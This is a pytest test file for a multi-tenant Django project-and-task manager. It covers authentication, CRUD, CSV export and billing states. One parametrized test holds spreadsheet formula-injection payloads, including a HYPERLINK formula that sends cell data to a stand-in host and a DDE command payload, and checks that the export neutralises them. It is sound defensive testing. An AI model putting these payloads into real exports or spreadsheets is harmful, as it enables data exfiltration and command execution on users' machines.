from __future__ import annotations

import csv
import io

import pytest
from django_tenants.utils import schema_context

from core_app.models import Export, Project, Task
from core_app.services import export_build
from tests.factories import ProjectFactory, TaskFactory


def test_dashboard_requires_login(acme):
    response = acme.client(logged_in=False).get("/")
    assert response.status_code == 302
    assert response["Location"].startswith("/login/")


def test_dashboard_lists_projects_with_open_and_done_counts(acme):
    with schema_context(acme.schema):
        project = ProjectFactory(name="Launch")
        TaskFactory.create_batch(2, project=project)
        TaskFactory(project=project, done=True)

    page = acme.client().get("/")

    assert page.status_code == 200
    listed = {p.name: p for p in page.context["projects"]}
    assert (listed["Launch"].open_count, listed["Launch"].done_count) == (2, 1)
    assert page.context["totals"] == {"total": 3, "open": 2, "done": 1, "projects": 1}


def test_owner_creates_edits_and_deletes_a_project(acme):
    client = acme.client()

    created = client.post("/projects/new/", {"name": "Roadmap", "description": "Q3"})
    with schema_context(acme.schema):
        project = Project.objects.get(name="Roadmap")
    assert created["Location"] == f"/projects/{project.pk}/"

    client.post(f"/projects/{project.pk}/edit/", {"name": "Roadmap 2", "description": ""})
    with schema_context(acme.schema):
        assert Project.objects.get(pk=project.pk).name == "Roadmap 2"

    client.post(f"/projects/{project.pk}/delete/")
    with schema_context(acme.schema):
        assert not Project.objects.filter(pk=project.pk).exists()


def test_blank_project_name_is_refused_with_a_message(acme):
    response = acme.client().post("/projects/new/", {"name": "  "})

    assert response.status_code == 400
    assert "This field is required." in response.content.decode()
    with schema_context(acme.schema):
        assert not Project.objects.exists()


def test_owner_adds_edits_completes_and_deletes_a_task(acme):
    with schema_context(acme.schema):
        project = ProjectFactory()
    client = acme.client()
    base = f"/projects/{project.pk}"

    client.post(f"{base}/tasks/", {"title": "Write copy"})
    with schema_context(acme.schema):
        task = Task.objects.get(title="Write copy")
    client.post(f"{base}/tasks/{task.pk}/edit/", {"title": "Write better copy", "notes": "short"})
    client.post(f"{base}/tasks/{task.pk}/toggle/")
    with schema_context(acme.schema):
        task.refresh_from_db()
        assert (task.title, task.done, task.completed_at is not None) == (
            "Write better copy",
            True,
            True,
        )
    client.post(f"{base}/tasks/{task.pk}/toggle/")
    with schema_context(acme.schema):
        task.refresh_from_db()
        assert (task.done, task.completed_at) == (False, None)
    client.post(f"{base}/tasks/{task.pk}/delete/")
    with schema_context(acme.schema):
        assert not Task.objects.filter(pk=task.pk).exists()


def test_writes_refuse_get_requests(acme):
    with schema_context(acme.schema):
        project = ProjectFactory()
    assert acme.client().get(f"/projects/{project.pk}/delete/").status_code == 405


def test_export_csv_contains_the_projects_tasks(acme):
    with schema_context(acme.schema):
        project = ProjectFactory()
        TaskFactory(project=project, title="alpha", notes="first, with a comma")
        TaskFactory(project=project, title="beta", done=True)
        export = export_build(export=Export.objects.create(project=project))

    response = acme.client().get(f"/projects/{project.pk}/exports/{export.pk}.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["id", "title", "notes", "done", "created_at", "completed_at"]
    assert [(row[1], row[2]) for row in rows[1:]] == [
        ("alpha", "first, with a comma"),
        ("beta", ""),
    ]


@pytest.mark.parametrize("path", ["/projects/999999/", "/projects/999999/edit/"])
def test_unknown_project_is_404(acme, path):
    assert acme.client().get(path).status_code == 404


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.test/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_cells_that_a_spreadsheet_would_run_are_neutralised(acme, title):
    with schema_context(acme.schema):
        project = ProjectFactory()
        TaskFactory(project=project, title=title, notes=title)
        export = export_build(export=Export.objects.create(project=project))
        rows = list(csv.reader(io.StringIO(export.content)))
    assert rows[1][1] == "'" + title
    assert rows[1][2] == "'" + title


def test_an_ordinary_title_is_exported_unchanged(acme):
    with schema_context(acme.schema):
        project = ProjectFactory()
        TaskFactory(project=project, title="Plan Q3: 50% = done?")
        export = export_build(export=Export.objects.create(project=project))
    assert list(csv.reader(io.StringIO(export.content)))[1][1] == "Plan Q3: 50% = done?"


def test_asking_for_an_export_again_while_one_is_building_reuses_it(acme):
    with schema_context(acme.schema):
        project = ProjectFactory()
    client = acme.client()
    for _ in range(5):
        client.post(f"/projects/{project.pk}/exports/")
    with schema_context(acme.schema):
        assert project.exports.count() == 1


def test_only_the_newest_finished_exports_are_kept(acme):
    with schema_context(acme.schema):
        project = ProjectFactory()
        for _ in range(5):
            export_build(export=Export.objects.create(project=project))
        assert project.exports.count() == 3


def test_task_notes_are_shown_on_the_project_page(acme):
    with schema_context(acme.schema):
        project = ProjectFactory()
        TaskFactory(project=project, title="Call the printer", notes="Ask for the matte paper")
    page = acme.client().get(f"/projects/{project.pk}/").content.decode()
    assert '<span class="notes">Ask for the matte paper</span>' in page


def test_one_open_task_is_counted_in_the_singular(acme):
    with schema_context(acme.schema):
        TaskFactory(project=ProjectFactory())
    page = acme.client().get("/").content.decode()
    assert "<b>1</b> open task</span>" in page and "1</b> open tasks" not in page
    assert "<b>1</b> project</span>" in page


def test_a_read_only_workspace_with_no_projects_does_not_invite_creating_one(acme):
    from datetime import timedelta

    from django.utils import timezone

    from billing.models import Subscription

    Subscription.objects.filter(tenant=acme.tenant).update(
        status=Subscription.Status.EXPIRED, trial_end=timezone.now() - timedelta(days=1)
    )
    page = acme.client().get("/").content.decode()
    assert "Create your first one" not in page
    assert "new projects can't be added until you" in page
